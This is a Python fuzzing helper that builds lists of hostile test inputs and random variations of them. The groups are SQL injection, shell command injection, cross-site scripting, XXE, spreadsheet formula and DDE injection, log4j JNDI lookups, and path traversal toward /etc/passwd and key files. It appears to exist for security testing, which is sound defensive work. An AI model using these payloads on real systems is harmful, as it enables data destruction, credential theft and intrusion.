"""Texts that break programs which take text for something else, and variations of them."""

import random

QUOTES = ["'", '"', "`", "\\", "\\'", "';", '";', "--", "/*", "*/", "#", "\x00", "\x1a", "%", "_", "$$"]
SQL = [
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE events; --", "\"; DROP TABLE \"users\"; --",
    "') OR ('a'='a", "1; DELETE FROM users", "' UNION SELECT key_hash FROM api_keys --",
    "' AND (SELECT COUNT(*) FROM users) > 0 --", "'; SELECT pg_sleep(5); --", "$1", "?1", ":id", "@x",
    "'||(SELECT password_hash FROM users LIMIT 1)||'", "1e309", "x' AND randomblob(100000000) --",
    "'; ATTACH DATABASE 'stolen.db' AS s; --", "\\'; COPY users TO PROGRAM 'id' --", "0x27204f5220",
]
SHELL = ["; touch {mark}", "$(touch {mark})", "`touch {mark}`", "| touch {mark}", "&& touch {mark}",
         "\n touch {mark}", "-o/dev/null", "--help", "${IFS}touch${IFS}{mark}"]
MARKUP = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "<svg/onload=alert(1)>", "</title><script>alert(1)</script>", "{{7*7}}", "${7*7}", "<%= 7*7 %>",
    "&lt;script&gt;", "]]>", "<!--", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "%0d%0aSet-Cookie: a=b",
    "\r\nX-Injected: yes", "\u2028", "\u202e", "\ufeff",
]
FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://x\")", "\t=1", "\r=1", "=cmd|' /C x'!A0"]
FILTERS = ["text='a':enable=1", "a,drawtext=textfile=/etc/passwd", "movie=/etc/passwd", "[in]null[out]",
           "%{pts}", "concat:/etc/passwd|x", "file:/etc/passwd", "subtitles=/etc/passwd"]
LOGS = ["a\nlevel=error forged", "{\"level\":\"error\"}", "%n%n%s%s%x", "\x1b[2J", "${jndi:ldap://x/a}",
        "\u0000\u0001", "line\r\nsecond"]
PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "//etc/passwd", "....//....//etc",
    "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "..%252f..%252fetc/passwd", "..%c0%afetc/passwd",
    "\\\\host\\share\\x", "C:\\boot.ini", "file:///etc/passwd", "a/../../../b", "./.././x", "a\x00.mp4",
    "\uff0e\uff0e\uff0fetc", "..\u2215..\u2215etc", "CON", "NUL", ".", "..", "~", "~root", "-", "a" * 300,
    "../master.key", "../geminivideo.db", "objects/../../master.key", "/proc/self/environ", "/dev/stdin",
]
NUMBERS = ["-1", "0", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e400", "NaN",
           "Infinity", "0x10", "1_000", "٣", "1.5", "true", "null", "[]", "{}"]

GROUPS = {"quotes": QUOTES, "sql": SQL, "shell": SHELL, "markup": MARKUP, "formulas": FORMULAS,
          "filters": FILTERS, "logs": LOGS, "paths": PATHS, "numbers": NUMBERS}


def varied(text, rng):
    """The same attack, written another way."""
    other = rng.choice(["'", "x", " ", "%", "\t", "é", "\U0001f4a9", "a" * 50])
    ways = [text, text + other, other + text, text.upper(), text * 2, text.replace(" ", "/**/"),
            text.replace("'", "%27"), text.replace("'", "\u02bc"), text.replace("/", "%2F")]
    return rng.choice(ways)


def payloads(count, mark, seed):
    """`count` of them in any order: each as it stands, then variations. `{mark}` is a file's path."""
    rng = random.Random(seed)
    plain = [text for group in GROUPS.values() for text in group]
    many = rng.sample(plain, min(count, len(plain)))
    while len(many) < count:
        many.append(varied(rng.choice(plain), rng))
    return [text.replace("{mark}", mark) for text in many]
